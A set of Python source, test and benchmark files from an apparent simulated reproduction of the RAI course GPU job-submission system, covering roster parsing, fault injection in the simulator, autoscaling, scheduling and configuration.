    "Accessibility": probe_accessibility,
    "Testing Uniformity": probe_uniformity,
}


def evaluate_system(system: SubmissionSystem) -> Dict[str, bool]:
    """Run all five probes against one system."""
    return {feature: _PROBES[feature](system) for feature in FEATURES}


def feature_matrix(systems: List[SubmissionSystem]) -> Dict[str, Dict[str, bool]]:
    """Table I, measured."""
    return {system.name: evaluate_system(system) for system in systems}


def render_matrix(matrix: Dict[str, Dict[str, bool]]) -> str:
    """ASCII rendering in the paper's layout."""
    width = max(len(name) for name in matrix) + 2
    header = "System".ljust(width) + " | " + " | ".join(
        f"{f:^18}" for f in FEATURES)
    lines = [header, "-" * len(header)]
    for name, row in matrix.items():
        cells = " | ".join(
            f"{'✓' if row[f] else '✗':^18}" for f in FEATURES)
        lines.append(name.ljust(width) + " | " + cells)
    return "\n".join(lines)
