"""Class roster parsing.

"The tool takes as input the class roster, a comma separated file of the
form {firstname,lastname,userid}" (§VI, Sending Authorization Keys).
"""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from typing import List

from repro.errors import AuthError


@dataclass(frozen=True)
class RosterEntry:
    first_name: str
    last_name: str
    user_id: str

    @property
    def full_name(self) -> str:
        return f"{self.first_name} {self.last_name}"

    @property
    def email(self) -> str:
        return f"{self.user_id}@illinois.edu"


def parse_roster(text: str) -> List[RosterEntry]:
    """Parse a roster CSV; tolerates a header row and blank lines."""
    entries: List[RosterEntry] = []
    seen_ids = set()
    reader = csv.reader(io.StringIO(text))
    for row_num, row in enumerate(reader, start=1):
        cells = [c.strip() for c in row]
        if not any(cells):
            continue
        if row_num == 1 and cells[:3] == ["firstname", "lastname", "userid"]:
            continue
        if len(cells) < 3 or not all(cells[:3]):
            raise AuthError(f"roster row {row_num} is malformed: {row!r}")
        first, last, uid = cells[:3]
        if uid in seen_ids:
            raise AuthError(f"duplicate userid {uid!r} in roster")
        seen_ids.add(uid)
        entries.append(RosterEntry(first, last, uid))
    return entries


def render_roster(entries: List[RosterEntry]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    for entry in entries:
        writer.writerow([entry.first_name, entry.last_name, entry.user_id])
    return out.getvalue()
