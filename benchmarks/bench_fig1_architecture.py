"""Figure 1 — the RAI system architecture, exercised end to end.

The figure is a diagram (client ↔ message broker ↔ workers, with the file
server and MongoDB at the side), so the reproduction is behavioural: one
submission must traverse every pictured component, and this bench prints
the traversal trace plus the per-component interaction counts, then times
the full round trip.
"""

from benchmarks.conftest import print_banner
from repro.core.job import JobStatus
from repro.core.system import RaiSystem

FILES = {
    "main.cu": "// @rai-sim quality=0.9 impl=analytic\n",
    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
}


def run_one_job():
    system = RaiSystem.standard(num_workers=2, seed=1)
    client = system.new_client(team="fig1-team")
    client.stage_project(FILES)
    result = system.run(client.submit())
    return system, result


def test_fig1_all_components_traversed(benchmark):
    system, result = benchmark.pedantic(run_one_job, rounds=1, iterations=1)
    assert result.status is JobStatus.SUCCEEDED

    broker_counters = system.broker.counters.as_dict()
    storage_counters = system.storage.counters.as_dict()

    print_banner("Figure 1 — component interactions for one submission")
    rows = [
        ("client → file server (project upload)",
         storage_counters.get("puts", 0) >= 1),
        ("client → broker (job publish on rai/tasks)",
         broker_counters.get("messages_published", 0) >= 1),
        ("worker → broker (log_${job_id} stream)",
         len(result.log) > 0),
        ("broker reaps the ephemeral log topic after End",
         f"log_{result.job_id}" not in system.broker.topics),
        ("worker → file server (/build upload)",
         storage_counters.get("puts", 0) >= 2),
        ("worker → MongoDB (submission record)",
         len(system.db.collection("submissions")) == 1),
        ("client ← file server (presigned build download)",
         result.build_url is not None),
    ]
    for label, ok in rows:
        print(f"  [{'x' if ok else ' '}] {label}")
    assert all(ok for _, ok in rows)

    print(f"\n  broker messages: "
          f"{broker_counters.get('messages_published', 0):.0f}"
          f" | storage puts/gets: {storage_counters.get('puts', 0):.0f}/"
          f"{storage_counters.get('gets', 0):.0f}"
          f" | db documents: {system.db.total_documents()}")
    print(f"  simulated turnaround: {result.turnaround:.1f}s "
          f"(includes first-job image pull)")
