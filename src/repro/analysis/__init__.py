"""Histogram/timeline analysis and the ASCII renderers the benchmark
harness uses to print paper-shaped tables and figures."""

from repro.analysis.histogram import bin_runtimes, runtime_histogram, ascii_histogram
from repro.analysis.timeline import hourly_counts, ascii_timeline, peak_hour
from repro.analysis.report import render_table, format_bytes, format_duration

__all__ = [
    "bin_runtimes",
    "runtime_histogram",
    "ascii_histogram",
    "hourly_counts",
    "ascii_timeline",
    "peak_hour",
    "render_table",
    "format_bytes",
    "format_duration",
]
