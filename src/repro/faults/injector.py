"""Turn a :class:`~repro.faults.plan.FaultPlan` into live chaos.

The injector installs hooks on a running :class:`~repro.core.system.RaiSystem`
and spawns kernel processes; every random decision draws from a named
deterministic stream, so two runs with the same system seed and plan
produce byte-identical timelines.

Usage::

    injector = system.start_fault_plan(plan)   # or FaultInjector(...).start()
    ...
    injector.stop()                            # restore all hooks
"""

from __future__ import annotations

from typing import List, Optional

from repro.container.container import ExecResult
from repro.errors import TransientStorageError
from repro.faults.plan import FaultPlan


class FaultInjector:
    """Applies a fault plan to one system; reversible via :meth:`stop`."""

    def __init__(self, system, plan: FaultPlan):
        self.system = system
        self.sim = system.sim
        self.plan = plan
        self._storage_rng = system.rng.stream("faults:storage")
        self._broker_rng = system.rng.stream("faults:broker")
        self._container_rng = system.rng.stream("faults:container")
        self._storage_counts: dict = {}
        self._procs: List = []
        self._started = False
        self._stopped = False
        self._orig_publish = None
        self._orig_add_worker = None
        self.injected = 0

    # -- lifecycle ----------------------------------------------------------

    def start(self) -> "FaultInjector":
        if self._started:
            raise RuntimeError("fault injector already started")
        self._started = True
        if self.plan.storage_faults:
            self.system.storage.fault_hook = self._storage_hook
        if self.plan.broker_faults:
            self._orig_publish = self.system.broker.publish
            self.system.broker.publish = self._publish_with_faults
        if self.plan.container_kills:
            for worker in self.system.workers:
                self._wrap_runtime(worker.runtime)
            # Workers added later (e.g. restart_after replacements) get
            # wrapped runtimes too.
            self._orig_add_worker = self.system.add_worker
            self.system.add_worker = self._add_worker_with_faults
        for index, fault in enumerate(self.plan.worker_crashes):
            rng = self.system.rng.stream(f"faults:crash:{index}")
            self._procs.append(
                self.sim.process(self._crash_process(fault, rng)))
        return self

    def stop(self) -> None:
        """Stop injecting and restore every hook."""
        if self._stopped:
            return
        self._stopped = True
        if self.system.storage.fault_hook == self._storage_hook:
            self.system.storage.fault_hook = None
        if self._orig_publish is not None:
            self.system.broker.publish = self._orig_publish
        if self._orig_add_worker is not None:
            self.system.add_worker = self._orig_add_worker
        # Wrapped runtimes / pending crash processes all check _stopped.

    def __enter__(self) -> "FaultInjector":
        return self.start() if not self._started else self

    def __exit__(self, *exc):
        self.stop()
        return False

    # -- bookkeeping ----------------------------------------------------------

    def _fire(self, kind: str, **fields) -> None:
        self.injected += 1
        monitor = self.system.monitor
        monitor.incr("faults_injected")
        monitor.incr(f"faults_{kind}")
        monitor.log("fault_injected", kind=kind, **fields)
        events = getattr(self.system, "events", None)
        if events is not None:
            events.emit("fault.injected", kind=kind, **fields)

    @staticmethod
    def _in_window(window, now: float) -> bool:
        return window[0] <= now <= window[1]

    # -- worker crashes ----------------------------------------------------------

    def _crash_process(self, fault, rng):
        instant = float(rng.uniform(fault.window[0], fault.window[1]))
        delay = max(0.0, instant - self.sim.now)
        if delay > 0:
            yield self.sim.timeout(delay)
        if self._stopped:
            return
        victim = self._pick_victim(fault, rng)
        if victim is None:
            return
        self._fire(f"worker_{fault.mode}", worker=victim.id, at=self.sim.now)
        if fault.mode == "stop":
            victim.stop()
        else:
            victim.crash()
        if fault.restart_after is not None:
            yield self.sim.timeout(fault.restart_after)
            if not self._stopped:
                replacement = self.system.add_worker()
                self.system.monitor.log("fault_replacement_worker",
                                        worker=replacement.id)

    def _pick_victim(self, fault, rng) -> Optional[object]:
        running = self.system.running_workers
        if fault.worker_id is not None:
            for worker in running:
                if worker.id == fault.worker_id:
                    return worker
            return None
        # Prefer a worker with a job in flight — crashing an idle worker
        # exercises nothing interesting.
        busy = [w for w in running if w.active_jobs > 0]
        pool = busy or running
        if not pool:
            return None
        return pool[int(rng.integers(0, len(pool)))]

    # -- storage faults ----------------------------------------------------------

    def _storage_hook(self, op: str, bucket: str, key: str) -> None:
        if self._stopped:
            return
        now = self.sim.now
        for index, fault in enumerate(self.plan.storage_faults):
            if fault.op not in (op, "any"):
                continue
            if not self._in_window(fault.window, now):
                continue
            if fault.bucket is not None and fault.bucket != bucket:
                continue
            counts_key = (index, op, bucket, key)
            used = self._storage_counts.get(counts_key, 0)
            if used < fault.failures_per_key:
                self._storage_counts[counts_key] = used + 1
                self._fire(f"storage_{op}", bucket=bucket, key=key,
                           nth_failure=used + 1)
                raise TransientStorageError(
                    f"injected transient {op} failure on {bucket}/{key} "
                    f"({used + 1}/{fault.failures_per_key})")
            if fault.rate > 0 and \
                    float(self._storage_rng.random()) < fault.rate:
                self._fire(f"storage_{op}", bucket=bucket, key=key,
                           random=True)
                raise TransientStorageError(
                    f"injected transient {op} failure on {bucket}/{key}")

    # -- broker faults ----------------------------------------------------------

    def _publish_with_faults(self, topic_name: str, body, headers=None):
        if not self._stopped:
            now = self.sim.now
            for fault in self.plan.broker_faults:
                if fault.topic != topic_name:
                    continue
                if not self._in_window(fault.window, now):
                    continue
                if fault.drop_rate > 0 and \
                        float(self._broker_rng.random()) < fault.drop_rate:
                    self._fire("broker_drop", topic=topic_name)
                    return None
                if fault.delay_rate > 0 and \
                        float(self._broker_rng.random()) < fault.delay_rate:
                    delay = float(self._broker_rng.uniform(
                        fault.delay_range[0], fault.delay_range[1]))
                    self._fire("broker_delay", topic=topic_name,
                               seconds=delay)
                    self.sim.process(self._delayed_publish(
                        topic_name, body, delay, headers))
                    return None
        return self._orig_publish(topic_name, body, headers=headers)

    def _delayed_publish(self, topic_name: str, body, delay: float,
                         headers=None):
        yield self.sim.timeout(delay)
        if not self._stopped:
            self._orig_publish(topic_name, body, headers=headers)

    # -- container kills ----------------------------------------------------------

    def _add_worker_with_faults(self, config=None):
        worker = self._orig_add_worker(config)
        self._wrap_runtime(worker.runtime)
        return worker

    def _wrap_runtime(self, runtime) -> None:
        orig_create = runtime.create_container

        def create_container(*args, **kwargs):
            container = orig_create(*args, **kwargs)
            if not self._stopped:
                self._arm_container(container)
            return container

        runtime.create_container = create_container

    def _arm_container(self, container) -> None:
        orig_exec = container.exec_line

        def exec_line(line: str):
            if not self._stopped:
                now = self.sim.now
                for fault in self.plan.container_kills:
                    if not self._in_window(fault.window, now):
                        continue
                    if float(self._container_rng.random()) < fault.rate:
                        self._fire("container_kill",
                                   container=container.id, command=line)
                        container.stop()
                        return ExecResult(
                            command=line, exit_code=137, sim_duration=0.0,
                            stdout="", stderr="",
                            error="container killed by fault injection "
                                  "(simulated daemon kill)")
            return orig_exec(line)

        container.exec_line = exec_line
