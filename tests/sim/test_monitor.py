"""Unit tests for measurement instruments."""

import math

import pytest

from repro.sim import Monitor, Simulator, Tally, TimeSeries


class TestTimeSeries:
    def test_record_and_length(self):
        ts = TimeSeries("q")
        ts.record(0, 1)
        ts.record(1, 2)
        assert len(ts) == 2

    def test_time_must_not_decrease(self):
        ts = TimeSeries("q")
        ts.record(5, 1)
        with pytest.raises(ValueError):
            ts.record(4, 1)

    def test_time_average_step_function(self):
        ts = TimeSeries("q")
        ts.record(0, 0)    # 0 for 10s
        ts.record(10, 10)  # 10 for 10s
        ts.record(20, 0)
        assert ts.time_average() == pytest.approx(5.0)

    def test_time_average_empty_is_nan(self):
        assert math.isnan(TimeSeries("q").time_average())

    def test_maximum(self):
        ts = TimeSeries("q")
        for t, v in [(0, 3), (1, 7), (2, 5)]:
            ts.record(t, v)
        assert ts.maximum() == 7


class TestTally:
    def test_welford_matches_closed_form(self):
        t = Tally("lat")
        values = [2.0, 4.0, 4.0, 4.0, 5.0, 5.0, 7.0, 9.0]
        for v in values:
            t.observe(v)
        assert t.mean == pytest.approx(5.0)
        assert t.std == pytest.approx(2.138, abs=1e-3)
        assert t.min == 2.0 and t.max == 9.0

    def test_percentiles(self):
        t = Tally("lat")
        for v in range(101):
            t.observe(v)
        assert t.percentile(50) == pytest.approx(50.0)
        assert t.percentile(95) == pytest.approx(95.0)

    def test_no_samples_mode(self):
        t = Tally("lat", keep_samples=False)
        t.observe(1.0)
        with pytest.raises(ValueError):
            t.percentile(50)

    def test_summary_keys(self):
        t = Tally("lat")
        t.observe(1.0)
        summary = t.summary()
        assert {"name", "count", "mean", "std", "min", "max"} <= set(summary)


class TestMonitor:
    def test_record_uses_sim_clock(self):
        sim = Simulator()
        mon = Monitor(sim)
        sim.timeout(5)
        sim.run()
        mon.record("depth", 3)
        assert mon.timeseries("depth").times == [5.0]

    def test_counters(self):
        mon = Monitor(Simulator())
        mon.incr("jobs")
        mon.incr("jobs", 2)
        assert mon.counters.get("jobs") == 3
        assert mon.counters.get("missing") == 0

    def test_tally_namespacing(self):
        mon = Monitor(Simulator())
        mon.observe("a", 1)
        mon.observe("b", 2)
        assert mon.tally("a").count == 1
        assert mon.tally("b").mean == 2
