"""Tier-1 smoke of the hot-path bench: dedup wins and indexed probes.

``benchmarks/bench_hotpath.py`` runs the full scale ladder; this runs the
tiny smoke scale on every test pass so a regression in the dedup upload
path or the query planner fails fast, not only when someone regenerates
``BENCH_hotpath.json``.
"""

import pytest

from repro.workload.hotpath import SMOKE_SCALE, run_hotpath

pytestmark = pytest.mark.perf


@pytest.fixture(scope="module")
def metrics():
    return run_hotpath(SMOKE_SCALE)


def test_all_submissions_complete(metrics):
    expected = SMOKE_SCALE.n_students * (SMOKE_SCALE.n_resubmissions + 1)
    assert metrics["submissions_completed"] == expected


def test_dedup_ratio_beats_full_uploads(metrics):
    """Resubmissions must actually dedup: logical bytes exceed wire bytes."""
    assert metrics["upload"]["dedup_ratio"] > 1.0
    resub = metrics["upload"]["resubmissions"]
    assert resub["wire_bytes"] < resub["full_bytes"]
    assert metrics["storage"]["chunk_store"]["dedup_ratio"] > 1.0


def test_indexed_submission_lookup_beats_scan(metrics):
    """The per-job probe runs on the submissions.job_id index and
    examines fewer documents than the scan path would."""
    probe = metrics["docdb"]["job_id_probe"]
    assert probe["path"] == "index"
    assert probe["index"] == "job_id"
    assert probe["docs_examined"] < probe["docs_total"]
    assert probe["docs_examined"] == 1
    assert metrics["docdb"]["planner"]["scans"] == 0


def test_time_window_query_runs_on_sorted_index(metrics):
    window = metrics["docdb"]["finished_at_window"]
    assert window["path"] == "index"
    assert window["index_kind"] == "range"


def test_worker_fetch_cache_saves_bytes(metrics):
    assert metrics["worker_fetch"]["bytes_saved"] > 0
