"""Edge cases of the autoscaler's pure decision function and signals.

``Autoscaler._decide`` is a pure mapping from a signals snapshot to an
action, so the corner cases — min-floor enforcement, scale-down
hysteresis, behaviour during a fault-injected worker crash — are pinned
here directly, without driving a fleet for simulated hours.
"""

import pytest

from repro.cluster import Autoscaler, AutoscalerPolicy, Provisioner
from repro.core.system import RaiSystem
from repro.faults import FaultPlan, WorkerCrashFault


@pytest.fixture
def system():
    return RaiSystem(seed=13)


def make_scaler(system, **kwargs):
    provisioner = Provisioner(system)
    policy = AutoscalerPolicy(**kwargs)
    return Autoscaler(system, provisioner, policy)


def signals(**overrides) -> dict:
    base = {
        "now": 0.0,
        "n_live": 2,
        "n_healthy": 2,
        "depth": 0,
        "active": 0,
        "capacity": 4,
        "occupancy": 0.0,
        "wait_ewma": 0.0,
        "since_scale_in": float("inf"),
    }
    base.update(overrides)
    return base


class TestMinFloor:
    def test_launches_exact_deficit(self, system):
        scaler = make_scaler(system, min_instances=3)
        assert scaler._decide(signals(n_live=1)) == ("ensure-min", 2)

    def test_floor_takes_priority_over_scale_in_conditions(self, system):
        scaler = make_scaler(system, min_instances=2)
        # Idle enough to scale in, but below the floor: launch.
        assert scaler._decide(signals(n_live=1, occupancy=0.0)) \
            == ("ensure-min", 1)

    def test_at_floor_idle_is_a_noop(self, system):
        scaler = make_scaler(system, min_instances=2)
        assert scaler._decide(signals(n_live=2, occupancy=0.0)) is None


class TestScaleOut:
    def test_cold_start_zero_capacity_with_backlog(self, system):
        scaler = make_scaler(system, min_instances=1, step=2)
        # Min floor satisfied by a still-booting instance (capacity 0).
        decision = scaler._decide(signals(n_live=1, depth=5, capacity=0))
        assert decision == ("scale-out", 2)

    def test_high_occupancy_triggers(self, system):
        scaler = make_scaler(system, scale_out_utilization=0.85)
        assert scaler._decide(
            signals(depth=3, active=4, occupancy=0.9)) == ("scale-out", 2)

    def test_slow_waits_trigger_even_at_moderate_occupancy(self, system):
        scaler = make_scaler(system, target_wait_seconds=60.0)
        assert scaler._decide(
            signals(depth=3, occupancy=0.5, wait_ewma=90.0)) \
            == ("scale-out", 2)

    def test_no_trigger_below_both_thresholds(self, system):
        scaler = make_scaler(system)
        assert scaler._decide(
            signals(depth=3, occupancy=0.5, wait_ewma=10.0)) is None

    def test_capped_at_max_instances(self, system):
        scaler = make_scaler(system, max_instances=3, step=5)
        decision = scaler._decide(
            signals(n_live=2, depth=10, occupancy=1.0))
        assert decision == ("scale-out", 1)
        assert scaler._decide(
            signals(n_live=3, depth=10, occupancy=1.0)) is None

    def test_empty_queue_never_scales_out(self, system):
        scaler = make_scaler(system)
        assert scaler._decide(signals(depth=0, occupancy=1.0,
                                      wait_ewma=500.0)) is None


class TestScaleInHysteresis:
    def idle(self, **overrides):
        base = dict(n_live=4, depth=0, occupancy=0.1, wait_ewma=0.0,
                    since_scale_in=float("inf"))
        base.update(overrides)
        return signals(**base)

    def test_idle_fleet_scales_in(self, system):
        scaler = make_scaler(system, min_instances=1, step=2)
        assert scaler._decide(self.idle()) == ("scale-in", 2)

    def test_never_below_the_floor(self, system):
        scaler = make_scaler(system, min_instances=3, step=5)
        assert scaler._decide(self.idle(n_live=4)) == ("scale-in", 1)
        assert scaler._decide(self.idle(n_live=3)) is None

    def test_cooldown_blocks_back_to_back_scale_in(self, system):
        scaler = make_scaler(system, scale_in_cooldown=1800.0)
        assert scaler._decide(self.idle(since_scale_in=100.0)) is None
        assert scaler._decide(self.idle(since_scale_in=1800.0)) \
            == ("scale-in", 2)

    def test_warm_wait_ewma_blocks_scale_in(self, system):
        # Queue is empty but recent dispatches waited long: the EWMA has
        # not cooled below target/2, so capacity stays (hysteresis
        # against the storm resuming).
        scaler = make_scaler(system, target_wait_seconds=60.0)
        assert scaler._decide(self.idle(wait_ewma=40.0)) is None
        assert scaler._decide(self.idle(wait_ewma=20.0)) \
            == ("scale-in", 2)

    def test_moderate_occupancy_blocks_scale_in(self, system):
        scaler = make_scaler(system, scale_in_idle_fraction=0.5)
        assert scaler._decide(self.idle(occupancy=0.6)) is None

    def test_zero_capacity_fleet_never_scales_in(self, system):
        # All instances still booting: nothing to judge idle yet.
        scaler = make_scaler(system)
        assert scaler._decide(self.idle(capacity=0)) is None


class TestCrashedWorkerHandling:
    def test_reap_then_refill_during_fault_injected_crash(self, system):
        """A fault-injected crash mid-flight: the dead instance is reaped
        (stops billing) and the min floor launches a replacement."""
        provisioner = Provisioner(system)
        policy = AutoscalerPolicy(min_instances=2, check_interval=30.0)
        scaler = Autoscaler(system, provisioner, policy)
        system.sim.process(scaler.run())
        # Crash one worker shortly after the fleet finishes booting.
        system.start_fault_plan(FaultPlan(worker_crashes=(
            WorkerCrashFault(window=(200.0, 201.0)),)))
        system.run(until=180.0)
        booted = [i for i in provisioner.live_instances
                  if i.worker is not None]
        assert len(booted) == 2
        system.run(until=800.0)
        actions = [d["action"] for d in scaler.decisions]
        assert "reap-crashed" in actions
        # The crashed instance no longer counts live, and the floor has
        # been re-established with healthy workers.
        healthy = [i for i in provisioner.live_instances
                   if i.worker is None or i.worker.is_running]
        assert len(provisioner.live_instances) == len(healthy) == 2

    def test_crashed_workers_excluded_from_signals(self, system):
        provisioner = Provisioner(system)
        scaler = Autoscaler(system, provisioner,
                            AutoscalerPolicy(min_instances=2))
        provisioner.launch_many(2, instance_type="p2.xlarge")
        system.run(until=180.0)   # past the 120s boot delay
        victim = provisioner.live_instances[0].worker
        victim.crash()
        survivor = provisioner.live_instances[1].worker
        snap = scaler.signals()
        assert snap["n_live"] == 2          # not yet reaped
        assert snap["n_healthy"] == 1
        assert snap["capacity"] == survivor.slot_count
        scaler._reap_crashed()
        assert scaler.signals()["n_live"] == 1
