"""Fair-share, deadline-aware job scheduling between broker and executors.

The broker's channel is FIFO; near a course deadline that is exactly
wrong: one team's resubmission storm queues hundreds of jobs ahead of
everyone else's single submission, and the p95 queue wait explodes (the
paper's §VI deadline-burst problem).  This package supplies the dequeue
policy a :class:`~repro.broker.topic.Channel` consults instead:

- **fair share** — per-team deficit round robin, so each active team gets
  an equal slice of executor time regardless of how many jobs it queued;
- **deadline boost** — jobs inside the course-deadline window form a
  priority band that dequeues before out-of-band work (fair share still
  applies *within* the band, so a storm cannot weaponise the boost);
- **shortest-expected-job-first tie-breaking** — expected cost per team
  comes from a history-seeded EWMA over observed service times (docdb's
  ``submissions.service_seconds``), favouring quick jobs when fairness
  does not dictate otherwise.
"""

from repro.sched.estimator import RuntimeEstimator
from repro.sched.scheduler import JobScheduler, SchedulerPolicy

__all__ = ["JobScheduler", "SchedulerPolicy", "RuntimeEstimator"]
