"""Worker and system configuration.

"These limits can be changed using the RAI worker configuration file"
(§V); "the worker can be configured to have multiple jobs in flight"
(§V, Worker Operations).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.container.limits import ResourceLimits
from repro.faults.retry import RetryPolicy


@dataclass
class WorkerConfig:
    """Per-worker knobs."""

    #: Jobs accepted concurrently.  1 near deadlines "makes the performance
    #: timing more accurate and repeatable"; >1 early in the project when
    #: CPU time dominates (§V).
    max_concurrent_jobs: int = 1
    #: Container sandbox limits (8 GB / no net / 1 h by default).
    limits: ResourceLimits = field(default_factory=ResourceLimits)
    #: GPU model mounted via the CUDA volume ("K40" on G2, "K80" on P2).
    gpu_model: str = "K80"
    #: Link speed between worker and file server (archive transfer time).
    storage_bandwidth_bps: float = 200e6
    #: Registry pull bandwidth for image-cache misses.
    pull_bandwidth_bps: float = 100e6
    #: Queue route workers consume from.
    task_route: str = "rai/tasks"
    #: Relative runtime jitter when running alone (measurement noise).
    solo_jitter: float = 0.02
    #: Additional relative jitter per concurrent co-running job
    #: (contention; drives the single-vs-multi timing-accuracy ablation).
    contention_jitter: float = 0.35
    #: Serve interactive sessions (§VIII future work) alongside batch jobs.
    enable_interactive: bool = False
    #: Whole-job wall-clock deadline (fetch + pull + build + upload).  The
    #: container lifetime cap only meters *charged* guest time; this closes
    #: the gap so a job can never hold an executor slot forever.  ``None``
    #: disables it.
    job_deadline_seconds: Optional[float] = 3600.0
    #: Retry budget for storage fetch/upload (transient errors only).
    storage_retry: RetryPolicy = field(default_factory=RetryPolicy)
    #: Budget of the manifest-aware project-fetch cache (bytes of cached
    #: content the worker can skip re-transferring).  Repeat fetches of
    #: identical or near-identical archives — resubmission storms, job
    #: redelivery — only move the chunks the worker has not seen.  0
    #: disables the cache.
    fetch_cache_bytes: int = 1 << 30
    #: Warm container pool: scrubbed containers kept per image for reuse
    #: across jobs.  0 disables the pool (every job pays the engine's full
    #: create cost).
    warm_pool_size: int = 2
    #: Idle parked containers older than this (sim clock) are destroyed.
    warm_pool_ttl_seconds: float = 900.0
    #: Engine cost of creating a fresh container (namespace + cgroup +
    #: mount setup) — what a pool miss pays at acquire time.
    container_create_seconds: float = 2.0
    #: Cost of reprovisioning a warm pooled container — what a hit pays.
    container_reset_seconds: float = 0.2

    def __post_init__(self):
        if self.max_concurrent_jobs < 1:
            raise ValueError("max_concurrent_jobs must be >= 1")
        if self.fetch_cache_bytes < 0:
            raise ValueError("fetch_cache_bytes must be >= 0")
        if self.job_deadline_seconds is not None \
                and self.job_deadline_seconds <= 0:
            raise ValueError("job_deadline_seconds must be positive")
        if self.warm_pool_size < 0:
            raise ValueError("warm_pool_size must be >= 0")
        if self.warm_pool_ttl_seconds <= 0:
            raise ValueError("warm_pool_ttl_seconds must be positive")
        if self.container_create_seconds < 0 \
                or self.container_reset_seconds < 0:
            raise ValueError("container create/reset seconds must be >= 0")


@dataclass
class SystemConfig:
    """Deployment-wide knobs."""

    upload_bucket: str = "rai-uploads"
    build_bucket: str = "rai-builds"
    #: Client-side upload bandwidth (student's connection).
    client_bandwidth_bps: float = 20e6
    #: Submission rate-limit window (30 s in the course).
    rate_limit_seconds: float = 30.0
    #: Lifetime of uploaded project archives ("between 1 and 3 months").
    upload_lifetime_seconds: float = 30 * 24 * 3600.0
    #: Lifetime of build outputs.
    build_lifetime_seconds: float = 90 * 24 * 3600.0
    #: Presigned build-URL validity.
    presign_expiry_seconds: float = 7 * 24 * 3600.0
    #: Default client-side End-wait timeout.  ``None`` keeps the paper's
    #: behaviour (the client blocks until End arrives — possibly forever
    #: if nothing redelivers a crashed worker's job); a finite value makes
    #: ``submit()`` return a terminal TIMEOUT result instead.
    client_wait_timeout_seconds: Optional[float] = None
    #: Sweep interval of the system dead-letter consumer (opt-in process).
    dead_letter_sweep_seconds: float = 300.0
    #: Content-addressed dedup of project uploads (git-style: the client
    #: chunks the archive, negotiates against its previous manifest, and
    #: transfers only unseen chunks).  Disable to reproduce the seed's
    #: full re-upload per submission.
    dedup_uploads: bool = True
    #: Fixed chunk size of the content-addressed store.
    chunk_size_bytes: int = 4096
    #: End-to-end distributed tracing (``repro.obs``).  Spans are passive
    #: — they never schedule simulator events — so disabling changes only
    #: bookkeeping, never the simulated timeline.
    tracing_enabled: bool = True
    #: Ring capacity of the in-memory trace store (oldest *finished*
    #: traces are evicted first; live traces are never dropped).
    trace_max_traces: int = 512
    #: Fair-share / deadline-aware dequeue on the task channel
    #: (:mod:`repro.sched`).  Disable to reproduce plain FIFO.
    scheduler_enabled: bool = True
    #: Course deadline on the sim clock; jobs submitted within the boost
    #: window before it jump the queue (§VI deadline policy).  ``None``
    #: disables the boost (fair share still applies).
    course_deadline_at: Optional[float] = None
    #: Width of the pre-deadline boost window.
    deadline_boost_window_seconds: float = 24 * 3600.0
    #: Executor-seconds each queued team accrues per fair-share round.
    sched_quantum_seconds: float = 5.0
    #: Structured event log (``repro.obs.events``).  Like tracing it is
    #: passive bookkeeping — disabling changes no simulated timing.
    event_log_enabled: bool = True
    #: Ring capacity of the event log (oldest records drop first).
    event_log_max_events: int = 4096
    #: Metrics-scraper snapshot cadence on the sim clock (the SLO
    #: engine's time-series resolution when ``start_observability`` runs).
    scrape_interval_seconds: float = 60.0
    #: Ring capacity of scraper snapshots (256 × 60 s ≈ 4 h of history).
    scrape_max_samples: int = 256
    #: SLO burn-rate windows: the standard fast (page on a spike) and
    #: slow (confirm it is sustained) pair.
    slo_fast_window_seconds: float = 300.0
    slo_slow_window_seconds: float = 3600.0
    #: Burn rate at/over which *both* windows must sit to fire an alert.
    #: 1.0 = eating the error budget exactly as fast as allowed.
    slo_burn_rate_threshold: float = 1.0
    #: Default objective: p95 queue wait stays under this bound.
    slo_queue_wait_p95_seconds: float = 30.0
    #: Default objective: submission success ratio target.
    slo_success_target: float = 0.99
    #: Control-plane partitions (``repro.shard``).  >1 hash-partitions the
    #: task topic, the submissions collection, and the scheduler by team
    #: key (``tasks.pK`` / ``submissions.pK`` / one scheduler instance per
    #: partition, with occupancy-driven work-stealing between them).
    #: 1 — the default — runs the exact unsharded legacy code paths.
    shards: int = 1
    #: Seed of the shard map's keyed hash.  Part of durable state: a
    #: restore must rebuild the same map or every routed document and
    #: queue message lands on the wrong partition.
    shard_seed: int = 0
    #: Minimum queued messages a partition must hold before a dry sibling
    #: may steal from it (pull steal and balancer both honour it).
    shard_steal_threshold: int = 2
    #: Sweep period of the opt-in shard balancer process
    #: (``RaiSystem.start_shard_balancer``).
    shard_balance_interval_seconds: float = 30.0
    #: Content-keyed build-artifact cache (``repro.storage.buildcache``):
    #: workers replay recorded ``cmake``/``make`` results instead of
    #: re-executing when the command's observed inputs are unchanged.
    #: Disable to reproduce the always-rebuild path.
    buildcache_enabled: bool = True
    #: Byte budget for unique cached artifact blobs (LRU beyond it).
    buildcache_max_bytes: int = 256 << 20
    #: Idle TTL of a cache entry before eviction.
    buildcache_ttl_seconds: float = 14 * 24 * 3600.0
    #: Fixed per-hit replay latency (cache probe + bookkeeping); the
    #: artifact transfer itself is charged from bytes over the worker's
    #: storage bandwidth.
    buildcache_replay_seconds: float = 0.05
    #: SJF cost multiplier for jobs whose source tree already completed a
    #: cached build (< 1.0 — the scheduler expects mostly cache hits).
    buildcache_hit_cost_factor: float = 0.35
    #: Per-tenant usage metering (``repro.obs.usage``).  Disable to
    #: measure the metering overhead itself or reproduce pre-metering
    #: behaviour; the meter object still exists, every record call
    #: short-circuits.
    usage_metering_enabled: bool = True
    #: Billing window the CostAllocator settles (cloud billing granularity).
    usage_window_seconds: float = 3600.0
    #: Budget-burn period for per-team budget SLOs (the paper's weekly
    #: AWS budget cadence).
    usage_budget_window_seconds: float = 7 * 24 * 3600.0
    #: Course every tenant in this deployment is metered under.
    course_name: str = "ece408"

    def __post_init__(self):
        if self.shards < 1:
            raise ValueError("shards must be >= 1")
        if self.shard_seed < 0:
            raise ValueError("shard_seed must be >= 0")
        if self.shard_steal_threshold < 1:
            raise ValueError("shard_steal_threshold must be >= 1")
        if self.shard_balance_interval_seconds <= 0:
            raise ValueError(
                "shard_balance_interval_seconds must be positive")
        if self.buildcache_max_bytes < 0:
            raise ValueError("buildcache_max_bytes must be >= 0")
        if self.buildcache_ttl_seconds <= 0:
            raise ValueError("buildcache_ttl_seconds must be positive")
        if self.buildcache_replay_seconds < 0:
            raise ValueError("buildcache_replay_seconds must be >= 0")
